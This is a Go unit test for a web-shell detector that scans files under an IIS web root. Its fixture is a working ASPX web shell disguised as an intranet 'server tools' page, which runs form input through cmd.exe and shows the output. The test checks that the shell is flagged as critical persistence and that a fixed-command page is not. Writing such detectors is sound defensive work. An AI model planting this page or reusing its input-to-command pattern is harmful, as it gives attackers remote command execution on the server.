package files

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/exhunt/exhunt/internal/finding"
)

// TestPageLayer: a command page in a web root is a web shell by what its
// code does (no IOC, no YARA rule names it), with the reasons; a page
// starting a fixed tool is not.
func TestPageLayer(t *testing.T) {
	r := shippedRules(t)
	shell := []byte("<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n  var si = new ProcessStartInfo(\"cmd.exe\", \"/c \" + box.Text);\n  si.UseShellExecute = false; si.RedirectStandardOutput = true;\n  outp.Text = Process.Start(si).StandardOutput.ReadToEnd();\n}\n</script>\n<html><head><title>Server tools</title><link rel=\"stylesheet\" href=\"/intranet/css/site.css\" /><meta name=\"viewport\" content=\"width=device-width, initial-scale=1\" /></head>\n<body><div class=\"header\"><h1>Contoso intranet: server tools</h1><p>Version information of this web server, for the helpdesk. Ask the web team before changing anything here.</p></div>\n<form runat=\"server\"><asp:TextBox id=\"box\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Go\"/><asp:Literal id=\"outp\" runat=\"server\"/></form></body></html>\n")
	fixed := []byte(strings.ReplaceAll(string(shell), `"/c " + box.Text`, `"/c ver"`))
	found := tree(t, map[string][]byte{"C/inetpub/wwwroot/intranet/tools.aspx": shell, "C/inetpub/wwwroot/intranet/ver.aspx": fixed})
	s := r.NewScanner(Options{})
	res, err := s.Scan(context.Background(), found["C/inetpub/wwwroot/intranet/tools.aspx"], nil)
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(res.Findings, func(f finding.Finding) bool { return f.Rule == "aspx-request-exec" })
	if i < 0 {
		t.Fatalf("no aspx-request-exec: %v", rulesOf(res.Findings, ""))
	}
	fd := res.Findings[i]
	if fd.Stage != finding.StagePersistence || fd.Severity != finding.SeverityCritical || !res.Shell {
		t.Errorf("stage %s severity %s shell %v", fd.Stage, fd.Severity, res.Shell)
	}
	if !strings.Contains(fd.Fields["reasons"], "line 5: request input (box.Text) reaches ProcessStartInfo") || fd.Fields["page_language"] != "C#" || fd.File == nil || fd.File.SHA256 == "" {
		t.Errorf("evidence: %v %+v", fd.Fields, fd.File)
	}
	res, err = s.Scan(context.Background(), found["C/inetpub/wwwroot/intranet/ver.aspx"], nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := rulesOf(res.Findings, "aspx-"); len(got) > 0 {
		t.Errorf("fixed tool page flagged: %v", got)
	}
	// nor does any other rule take the page for a shell
	for _, f := range res.Findings {
		if !f.Supporting && f.Stage == finding.StagePersistence {
			t.Errorf("%s raises the verdict on a fixed-tool page", f.Rule)
		}
	}
	if res.Shell {
		t.Error("fixed-tool page taken for a web shell")
	}
}
